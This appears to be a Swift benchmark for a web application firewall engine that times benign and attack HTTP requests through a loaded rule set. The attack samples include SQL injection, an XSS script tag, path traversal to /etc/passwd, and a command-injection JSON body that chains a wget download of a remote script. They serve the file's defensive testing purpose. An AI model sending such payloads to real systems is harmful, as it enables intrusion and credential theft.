// In-process WAF engine benchmark (no sockets): loads a rule set and runs a fixed mix of
// benign and attack requests through it, printing µs per request for each. Used to find
// where the engine spends its time (`make waf-bench`, or under `perf record`); the
// end-to-end comparison with nginx + ModSecurity is `make bench`.
import Foundation
import WAF

struct Sample {
    var name: String
    var method: String
    var target: String
    var headers: [(String, String)]
    var body: String = ""
}

let browser: [(String, String)] = [
    ("Host", "shop.example.com"),
    ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
    ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
    ("Accept-Language", "en-US,en;q=0.5"),
    ("Accept-Encoding", "gzip, deflate, br"),
    ("Cookie", "session=4f2a9c1e7b; theme=dark"),
]

/// A POST from the browser with `body` of content type `type` (Content-Length from the body).
func post(_ name: String, _ target: String, type: String, body: String) -> Sample {
    Sample(name: name, method: "POST", target: target,
           headers: browser + [("Content-Type", type), ("Content-Length", String(body.utf8.count))], body: body)
}

let samples: [Sample] = [
    Sample(name: "GET 4 args", method: "GET", target: "/products?id=1234&page=2&q=blue+shoes&sort=price", headers: browser),
    post("form POST", "/account/login", type: "application/x-www-form-urlencoded",
         body: "username=alice&password=correct+horse&remember=on&next=%2F"),
    post("JSON POST", "/api/v1/orders", type: "application/json",
         body: #"{"items":[{"sku":"A-1001","qty":2},{"sku":"B-2002","qty":1}],"note":"leave at the door"}"#),
    Sample(name: "SQLi arg", method: "GET", target: "/products?id=1%27%20OR%20%271%27%3D%271&page=2", headers: browser),
    Sample(name: "XSS arg", method: "GET", target: "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", headers: browser),
    // The rest of `make bench`'s attack mix (bench/waf/attack.lua).
    Sample(name: "traversal arg", method: "GET", target: "/download?file=..%2F..%2F..%2Fetc%2Fpasswd", headers: browser),
    post("SQLi form", "/account/login", type: "application/x-www-form-urlencoded",
         body: "username=admin%27--&password=x%27%20UNION%20SELECT%20password%20FROM%20users--"),
    post("shell JSON", "/api/v1/run", type: "application/json",
         body: #"{"cmd":";cat /etc/passwd","host":"127.0.0.1 && wget http://x/s.sh"}"#),
]

let args = CommandLine.arguments
let rules = args.count > 1 ? args[1] : "filters/waf/base.conf"
let seconds = args.count > 2 ? Double(args[2]) ?? 2 : 2
let only = args.count > 3 ? args[3] : nil
let t0 = Date()
let rs: RuleSet
switch SecLang.load(files: [rules]) {
case .success(let r): rs = r
case .failure(let e): print("rule load failed:\n\(e)"); exit(1)
}
print("loaded \(rs.ruleCount) rules in \(Int(Date().timeIntervalSince(t0) * 1000)) ms")

func run(_ s: Sample, _ n: Int) -> (Int?, Int) {
    var status: Int?
    var matches = 0
    for i in 0..<n {
        let t = Transaction(ruleSet: rs, requestID: "req-\(i)", clientAddress: "10.1.2.3", clientPort: 40000,
                            serverAddress: "10.1.2.4", serverPort: 8080)
        var iv = t.processRequestHeaders(method: s.method, target: s.target, protocol: "HTTP/1.1", headers: s.headers)
        if iv == nil {
            if !s.body.isEmpty { t.appendRequestBody(Array(s.body.utf8)) }
            iv = t.processRequestBody()
        }
        if iv == nil {
            iv = t.processResponseHeaders(status: 200, protocol: "HTTP/1.1", headers: [("Content-Type", "text/html"), ("Content-Length", "1024")])
        }
        t.processLogging()
        status = iv?.status
        matches = t.matches.count
    }
    return (status, matches)
}

// WAFBENCH_ITERATIONS=n: exactly n requests of each selected sample and no timing (for
// `perf stat -e instructions`, steadier than wall time on a shared machine).
if let n = ProcessInfo.processInfo.environment["WAFBENCH_ITERATIONS"].flatMap(Int.init) {
    for s in samples where only == nil || s.name == only { _ = run(s, n) }
    exit(0)
}

// MIX=1: the three benign samples interleaved, as the proxy sees them, timed per request.
// With MIXN=n as well: exactly n rounds and no timing, each request followed by a 4 MiB
// sweep that stands in for the proxy and the kernel between two requests (the engine then
// starts each request with cold caches, as in the proxy) - for cachegrind's cache simulation.
if ProcessInfo.processInfo.environment["MIX"] != nil {
    let mix = Array(samples[0..<3])
    if let rounds = ProcessInfo.processInfo.environment["MIXN"].flatMap(Int.init) {
        let sweep = UnsafeMutablePointer<UInt8>.allocate(capacity: 4 << 20)
        sweep.initialize(repeating: 0, count: 4 << 20)
        for _ in 0..<rounds {
            for s in mix {
                _ = run(s, 1)
                for k in stride(from: 0, to: 4 << 20, by: 64) { sweep[k] &+= 1 }
            }
        }
        exit(0)
    }
    for _ in 0..<3 { for s in mix { _ = run(s, 1) } }
    let start = Date()
    var n = 0
    while Date().timeIntervalSince(start) < seconds { for s in mix { _ = run(s, 1) }; n += 3 }
    print(String(format: "benign mix, interleaved %8.1f µs/request", Date().timeIntervalSince(start) * 1e6 / Double(n)))
    exit(0)
}

for s in samples where only == nil || s.name == only {
    _ = run(s, 50)
    var n = 0
    let start = Date()
    var res: (Int?, Int) = (nil, 0)
    while Date().timeIntervalSince(start) < seconds { res = run(s, 100); n += 100 }
    let us = Date().timeIntervalSince(start) * 1e6 / Double(n)

    print(String(format: "%-12@ %8.1f µs/request  status %@  matches %d", s.name as NSString, us, res.0.map(String.init) ?? "pass", res.1))
}
